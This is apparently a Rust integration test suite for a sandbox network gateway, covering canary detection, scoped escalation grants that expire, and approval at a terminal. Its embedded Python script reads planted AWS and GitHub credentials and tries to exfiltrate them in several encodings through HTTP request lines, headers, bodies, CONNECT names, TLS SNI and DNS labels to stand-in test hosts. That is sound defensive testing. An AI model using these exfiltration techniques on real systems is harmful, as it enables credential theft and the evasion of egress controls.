//! Canary exfiltration and escalation grants, attacked from inside the
//! sandbox: a payload reads the planted credentials and tries to send them
//! out in every encoding over every channel the gateway serves. Every
//! attempt must be detected and blocked, and none may reach the upstream.

use crate::common::{modes, Sandbox};
use crate::{find, flows, run_sh, value_of, Upstream};

const PROFILE: &str = r#"mode = "allowlist"
allow = ["api.test:8080", "api.test:443"]
allow_cidr = ["{net}"]
hosts = { "api.test" = "{ip}" }
"#;

/// Reads the canaries (the AWS secret from the environment, the GitHub
/// token from ~/.config/gh/hosts.yml) and tries to send them out. Prints
/// `name=result` lines.
const EXFIL: &str = r#"
import base64, binascii, http.client, os, re, socket, ssl, time, urllib.parse
secret = os.environ["AWS_SECRET_ACCESS_KEY"]
token = re.search(r"oauth_token: (\S+)", open(os.path.expanduser("~/.config/gh/hosts.yml")).read()).group(1)
b64 = base64.b64encode(secret.encode()).decode()
hexed = binascii.hexlify(token.encode()).decode()
url = urllib.parse.quote(secret, safe="")
b32 = base64.b32encode(token.encode()).decode().rstrip("=").lower()

def proxy(method, path, body=None, headers={}):
    try:
        c = http.client.HTTPConnection("127.0.0.1", 3128, timeout=10)
        c.request(method, "http://api.test:8080" + path, body=body, headers=headers)
        r = c.getresponse()
        return str(r.status)
    except Exception as e:
        return "error " + type(e).__name__

def out(k, v):
    print(f"{k}={v}", flush=True)

out("control", proxy("GET", "/hello"))
# Benign bodies go through whole: small, chunked, and arriving late.
out("post_small", proxy("POST", "/echo-small", body="benign=1"))
out("post_chunked", proxy("POST", "/echo-chunked", body=iter([b"ab", b"cd"])))
out("line_raw", proxy("GET", "/exfil?k=" + url))
out("line_hex", proxy("GET", "/exfil/" + hexed))
out("header_b64", proxy("GET", "/exfil", headers={"X-Data": b64}))
out("body_url", proxy("POST", "/exfil", body="k=" + url))
# A large body: what precedes the value may leave, the value never does.
out("body_hex", proxy("POST", "/partial", body=("x" * 70000 + hexed + "y" * 10).encode()))
out("body_split_b64", proxy("POST", "/exfil", body=("{\"d\": \"" + b64 + "\"}").encode()))

def drain(s):
    data = b""
    while True:
        d = s.recv(65536)
        if not d:
            return data
        data += d

# One request on a fresh connection to `addr`; the body `pause` seconds
# after the head.
def exchange(addr, head, body=b"", pause=0):
    s = socket.create_connection(addr, timeout=10)
    s.sendall(head)
    if pause:
        time.sleep(pause)
    s.sendall(body)
    return drain(s)

def post_head(target, body):
    return b"POST " + target.encode() + b" HTTP/1.1\r\nHost: api.test:8080\r\nContent-Length: " + str(len(body)).encode() + b"\r\nConnection: close\r\n\r\n"

# The head first, the body with the value a moment later: the upstream
# must not see even the head.
def proxy_late(body, path="/exfil"):
    try:
        data = exchange(("127.0.0.1", 3128), post_head("http://api.test:8080" + path, body), body, 0.3)
        return data.split(b" ")[1].decode() if data else "closed"
    except Exception as e:
        return "error " + type(e).__name__

out("body_late", proxy_late(("k=" + url).encode()))
out("post_late", proxy_late(b"benign=late", "/echo-late"))

# Capture path: a direct connection to api.test:8080; the status line.
def capture(head, body=b"", pause=0):
    try:
        return exchange(("api.test", 8080), head, body, pause).split(b"\r\n")[0].decode() or "closed"
    except Exception as e:
        return "error " + type(e).__name__

# The capture path, head first and the body a moment later: the upstream
# must not see the head either.
def capture_late(path, body):
    return capture(post_head(path, body), body, 0.3)

out("capture_late", capture_late("/exfil", ("k=" + secret).encode()))
out("capture_late_benign", capture_late("/echo-capture-late", b"benign=capture"))

body = ("k=" + secret).encode()
out("capture_raw", capture(post_head("/exfil", body) + body))
out("capture_control", capture(b"GET /hello HTTP/1.1\r\nHost: api.test:8080\r\nConnection: close\r\n\r\n"))

# CONNECT with the token hex-encoded in the name, split over labels.
try:
    c = http.client.HTTPConnection("127.0.0.1", 3128, timeout=10)
    c.request("CONNECT", hexed[:40] + "." + hexed[40:] + ".api.test:443")
    out("connect_name", str(c.getresponse().status))
except Exception as e:
    out("connect_name", "error " + type(e).__name__)

# TLS SNI carrying the token (base32) on the capture path.
try:
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    s = socket.create_connection(("api.test", 443), timeout=10)
    t = ctx.wrap_socket(s, server_hostname=b32[:50] + "." + b32[50:] + ".api.test")
    out("sni", "connected")
except Exception as e:
    out("sni", "error " + type(e).__name__)

# DNS: the token in base32 and hex, split across labels.
for k, name in [("dns_b32", b32[:30] + "." + b32[30:] + ".api.test"), ("dns_hex", hexed[:50] + "." + hexed[50:] + ".exfil.test")]:
    try:
        socket.getaddrinfo(name, 80)
        out(k, "resolved")
    except socket.gaierror as e:
        out(k, "gaierror")
"#;

#[test]
fn canaries_leaving_in_any_encoding_are_detected_and_blocked() {
    let up = Upstream::start();
    for mode in modes() {
        let sb = Sandbox::new(mode);
        sb.put("exfil.py", EXFIL.as_bytes(), 0o644);
        let profile = up.profile(&sb, PROFILE);
        let run = run_sh(&sb, &profile, "python3 /workspace/exfil.py");
        assert_eq!(run.code(), Some(0), "{}", run.describe());
        // The same paths work for benign traffic: a refusal below is the
        // canary's doing.
        assert_eq!(value_of(&run, "control"), "200", "{}", run.describe());
        for k in ["post_small", "post_chunked", "post_late"] {
            assert_eq!(value_of(&run, k), "200", "[{mode}] {k}\n{}", run.describe());
        }
        assert!(
            value_of(&run, "capture_control").contains("200"),
            "{}",
            run.describe()
        );
        for k in [
            "line_raw",
            "line_hex",
            "header_b64",
            "body_url",
            "body_hex",
            "body_split_b64",
            "body_late",
            "connect_name",
        ] {
            assert_eq!(value_of(&run, k), "403", "[{mode}] {k}\n{}", run.describe());
        }
        let late = value_of(&run, "capture_late");
        assert!(
            !late.contains("200"),
            "[{mode}] capture_late got through: {late}\n{}",
            run.describe()
        );
        assert!(
            value_of(&run, "capture_late_benign").contains("200"),
            "{}",
            run.describe()
        );
        let cap = value_of(&run, "capture_raw");
        assert!(
            !cap.contains("200"),
            "[{mode}] capture_raw got through: {cap}\n{}",
            run.describe()
        );
        assert!(
            value_of(&run, "sni").starts_with("error"),
            "{}",
            run.describe()
        );
        assert_eq!(value_of(&run, "dns_b32"), "gaierror");
        assert_eq!(value_of(&run, "dns_hex"), "gaierror");

        let report = run.json();
        let ex = report["canaries"]["exfiltration"]
            .as_array()
            .unwrap_or_else(|| panic!("no canaries.exfiltration\n{}", run.describe()));
        let seen = |place: &str, canary: &str, enc: &str| {
            ex.iter().any(|e| {
                e["place"] == place
                    && e["canary"] == canary
                    && e["encoding"].as_str().unwrap_or("").contains(enc)
                    && e["blocked"] == true
            })
        };
        for (place, canary, enc) in [
            ("request_line", "aws-secret", "url-encoded"),
            ("request_line", "github-token", "hex"),
            ("headers", "aws-secret", "base64"),
            ("body", "aws-secret", "url-encoded"),
            ("body", "github-token", "hex"),
            ("body", "aws-secret", "base64"),
            ("stream", "aws-secret", "raw"),
            ("target_name", "github-token", "hex"),
            ("sni", "github-token", "base32"),
            ("dns_name", "github-token", "base32"),
            ("dns_name", "github-token", "hex"),
        ] {
            assert!(
                seen(place, canary, enc),
                "[{mode}] no blocked {canary} ({enc}) in {place}: {ex:#?}"
            );
        }
        // Flows say why they were refused.
        let f = flows(&run);
        assert!(
            find(&f, "http", Some("api.test"), "deny")
                .iter()
                .any(|r| r["reason"].as_str().unwrap().contains("canary")),
            "{f:#?}"
        );
    }
    let log = up.log();
    assert!(
        !log.contains("/exfil"),
        "a request carrying a canary reached the upstream:\n{log}"
    );
    for (path, body) in [
        ("/echo-small", "len=8 body=b'benign=1'"),
        ("/echo-chunked", "len=4 body=b'abcd'"),
        ("/echo-late", "len=11 body=b'benign=late'"),
        ("/echo-capture-late", "len=14 body=b'benign=capture'"),
    ] {
        assert!(
            log.lines().any(|l| l.contains(path) && l.contains(body)),
            "{path} did not arrive whole:\n{log}"
        );
    }
    // The large body was cut before the value (at byte 70,000) left.
    for line in log.lines().filter(|l| l.contains("/partial")) {
        let len: usize = line
            .split("len=")
            .nth(1)
            .and_then(|r| r.split_whitespace().next())
            .and_then(|n| n.parse().ok())
            .unwrap_or(usize::MAX);
        assert!(
            len < 70_000,
            "the canary's bytes reached the upstream: {line}"
        );
    }
    assert!(
        log.contains("/hello"),
        "the control requests never arrived:\n{log}"
    );
}

/// Makes an audit key outside the sandbox (writable by the rootless user,
/// as is the directory its audit logs go to) and names it in `profile`.
fn audit_key(sb: &Sandbox, profile: &std::path::Path) -> std::path::PathBuf {
    let key = sb.outside().join("key");
    sb.chown(sb.outside());
    let kg = sb.airlock(&["audit", "keygen", "--out", key.to_str().unwrap()]);
    assert_eq!(kg.code(), Some(0), "{}", kg.describe());
    sb.chown(&key);
    std::fs::write(
        profile,
        std::fs::read_to_string(profile).unwrap()
            + &format!("\n[audit]\nkey = \"{}\"\n", key.display()),
    )
    .unwrap();
    key
}

/// An approver that grants two seconds, and records that it was asked.
const APPROVER: &str = r#"cat > "$ASKED_FILE"; echo '{"decision":"grant","ttl_secs":2,"approver":"test-approver","reason":"integration test"}'"#;

#[test]
fn an_escalation_grant_is_scoped_and_expires_mid_run() {
    let up = Upstream::start();
    for mode in modes() {
        let sb = Sandbox::new(mode);
        let profile = up.profile(
            &sb,
            "mode = \"allowlist\"\nallow = [\"api.test:8081\"]\non_deny = \"ask\"\nask_timeout = \"10s\"\nallow_cidr = [\"{net}\"]\nhosts = { \"api.test\" = \"{ip}\" }\n",
        );
        let asked = sb.outside().join("asked.json");
        let audit = sb.outside().join(format!("audit-{mode}.jsonl"));
        let key = audit_key(&sb, &profile);
        let ws = sb.workspace().to_str().unwrap().to_owned();
        let code = "code() { curl -sS -m 10 -o /dev/null -w '%{http_code}' \"$@\" 2>/dev/null; echo \" rc=$?\"; }";
        let script = format!(
            "{code}; echo first=$(code http://api.test:8080/hello); \
             echo again=$(code http://api.test:8080/hello); \
             echo other_port=$(code http://api.test:8082/hello); \
             sleep 3; echo after=$(code http://api.test:8080/hello)"
        );
        let run = sb.airlock_with(
            &[
                "run",
                "--json",
                "--profile",
                profile.to_str().unwrap(),
                "--workspace",
                &ws,
                "--audit",
                audit.to_str().unwrap(),
                "--approver",
                APPROVER,
                "--",
                "sh",
                "-c",
                &script,
            ],
            |c| {
                c.env("ASKED_FILE", &asked);
            },
        );
        assert_eq!(run.code(), Some(0), "{}", run.describe());
        assert_eq!(value_of(&run, "first"), "200 rc=0", "{}", run.describe());
        assert_eq!(value_of(&run, "again"), "200 rc=0", "{}", run.describe());
        // The grant covers api.test:8080 only: another port asks again (and
        // the approver grants it, which the audit shows as a second request).
        let after = value_of(&run, "after");
        let report = run.json();
        let esc = report["escalations"]
            .as_array()
            .unwrap_or_else(|| panic!("{}", run.describe()));
        let for_8080: Vec<_> = esc.iter().filter(|e| e["port"] == 8080).collect();
        // The grant expired after 2 s; the request after it asked again.
        assert_eq!(for_8080.len(), 2, "{esc:#?}");
        assert!(for_8080[0]["expired"] == true, "{esc:#?}");
        assert_eq!(for_8080[0]["approver"], "test-approver");
        // The grant did not cover another port: that one was asked for.
        assert!(esc.iter().any(|e| e["port"] == 8082), "{esc:#?}");
        assert_eq!(
            after,
            "200 rc=0",
            "a new grant was given: {}",
            run.describe()
        );
        let asked_doc: serde_json::Value =
            serde_json::from_str(std::fs::read_to_string(&asked).unwrap().trim()).unwrap();
        assert_eq!(asked_doc["name"], "api.test");
        assert!(asked_doc["port"] == 8080 || asked_doc["port"] == 8082);
        // The audit log holds the request, grant and expiry, and verifies.
        let text = std::fs::read_to_string(&audit).unwrap();
        for kind in [
            "escalation.request",
            "escalation.grant",
            "escalation.expired",
        ] {
            assert!(
                text.contains(&format!("\"kind\":\"{kind}\"")),
                "[{mode}] no {kind} in the audit log:\n{text}"
            );
        }
        let pubkey = format!("{}.pub", key.display());
        let v = sb.airlock(&["audit", "verify", audit.to_str().unwrap(), "--key", &pubkey]);
        assert_eq!(v.code(), Some(0), "{}", v.describe());
    }
}

#[test]
fn without_an_approver_ask_means_deny_and_the_host_is_never_resolved() {
    let up = Upstream::start();
    for mode in modes() {
        let sb = Sandbox::new(mode);
        let profile = up.profile(
            &sb,
            "mode = \"allowlist\"\nallow = [\"api.test:8081\"]\non_deny = \"ask\"\nask_timeout = \"5s\"\nallow_cidr = [\"{net}\"]\nhosts = { \"api.test\" = \"{ip}\" }\n",
        );
        let run = run_sh(
            &sb,
            &profile,
            "echo denied=$(curl -sS -m 10 -o /dev/null -w '%{http_code}' http://api.test:8080/hello 2>/dev/null)",
        );
        assert_eq!(run.code(), Some(0), "{}", run.describe());
        assert_eq!(value_of(&run, "denied"), "403", "{}", run.describe());
        let report = run.json();
        let esc = &report["escalations"][0];
        assert_eq!(esc["outcome"], "denied", "{}", run.describe());
        assert!(esc["reason"].as_str().unwrap().contains("no approver"));
    }
    assert!(!up.log().contains("8080 GET"), "{}", up.log());
}

/// Runs a command on a fresh pseudo-terminal (its controlling terminal),
/// answers each grant prompt with the next of `argv[1]` (comma-separated),
/// and prints everything the terminal showed; exits with the command's
/// status.
const PTY_DRIVER: &str = r#"
import os, pty, select, sys, time
answers = sys.argv[1].split(",")
argv = sys.argv[2:]
pid, fd = pty.fork()
if pid == 0:
    os.execvp(argv[0], argv)
buf, asked = b"", 0
deadline = time.time() + 90
while time.time() < deadline:
    r, _, _ = select.select([fd], [], [], 1)
    if fd not in r:
        continue
    try:
        d = os.read(fd, 4096)
    except OSError:
        break
    if not d:
        break
    buf += d
    while buf.count(b"Grant for how many seconds") > asked:
        answer = answers[asked] if asked < len(answers) else ""
        os.write(fd, answer.encode() + b"\n")
        asked += 1
_, st = os.waitpid(pid, 0)
sys.stdout.buffer.write(buf)
sys.stdout.write(f"\nprompts={asked}\n")
sys.exit(os.waitstatus_to_exitcode(st))
"#;

#[test]
fn on_a_terminal_the_person_at_it_grants_or_denies() {
    let up = Upstream::start();
    for mode in modes() {
        let sb = Sandbox::new(mode);
        let profile = up.profile(
            &sb,
            "mode = \"allowlist\"\nallow = [\"api.test:8081\"]\non_deny = \"ask\"\nask_timeout = \"30s\"\nallow_cidr = [\"{net}\"]\nhosts = { \"api.test\" = \"{ip}\" }\n",
        );
        let audit = sb.outside().join(format!("tty-{mode}.jsonl"));
        audit_key(&sb, &profile);
        let ws = sb.workspace().to_str().unwrap().to_owned();
        let code = "code() { curl -sS -m 20 -o /dev/null -w '%{http_code}' \"$@\" 2>/dev/null; }";
        let script = format!(
            "{code}; echo granted=$(code http://api.test:8080/hello); \
             echo refused=$(code http://api.test:8082/hello)"
        );
        let airlock = sb.command();
        let mut argv: Vec<String> = vec![airlock.get_program().to_string_lossy().into_owned()];
        argv.extend(airlock.get_args().map(|a| a.to_string_lossy().into_owned()));
        argv.extend(
            [
                "run",
                "--profile",
                profile.to_str().unwrap(),
                "--workspace",
                &ws,
                "--audit",
                audit.to_str().unwrap(),
                "--",
                "sh",
                "-c",
                &script,
            ]
            .map(String::from),
        );
        // The first prompt (8080) is granted for 60 s, the second (8082)
        // is answered with 0: denied.
        let out = std::process::Command::new("python3")
            .arg("-c")
            .arg(PTY_DRIVER)
            .arg("60,0")
            .args(&argv)
            .env("USER", "tester")
            .env_remove("AIRLOCK_LOG")
            .output()
            .expect("python3");
        let text = String::from_utf8_lossy(&out.stdout).replace('\r', "");
        let said = format!(
            "[{mode}] status {:?}\n{text}\n{}",
            out.status,
            String::from_utf8_lossy(&out.stderr)
        );
        assert_eq!(out.status.code(), Some(0), "{said}");
        assert!(text.contains("prompts=2"), "{said}");
        assert!(
            text.contains("asks to reach api.test:8080"),
            "the prompt names the host and port: {said}"
        );
        assert!(text.contains("granted=200"), "{said}");
        assert!(text.contains("refused=403"), "{said}");
        // The audit log names the person at the terminal.
        let log = std::fs::read_to_string(&audit).unwrap();
        let events: Vec<serde_json::Value> = log
            .lines()
            .filter_map(|l| serde_json::from_str(l).ok())
            .collect();
        let kind = |k: &str| -> Vec<&serde_json::Value> {
            events.iter().filter(|e| e["kind"] == k).collect()
        };
        let grants = kind("escalation.grant");
        assert_eq!(grants.len(), 1, "[{mode}] {log}");
        assert_eq!(grants[0]["data"]["approver"], "tty:tester", "{log}");
        assert_eq!(grants[0]["data"]["port"], 8080, "{log}");
        let denials = kind("escalation.denial");
        assert_eq!(denials.len(), 1, "[{mode}] {log}");
        assert_eq!(denials[0]["data"]["port"], 8082, "{log}");
        assert_eq!(
            denials[0]["data"]["reason"], "denied on the terminal",
            "{log}"
        );
    }
    let log = up.log();
    assert!(log.contains("8080 GET /hello"), "{log}");
    assert!(!log.contains("8082 GET"), "a denied request arrived: {log}");
}
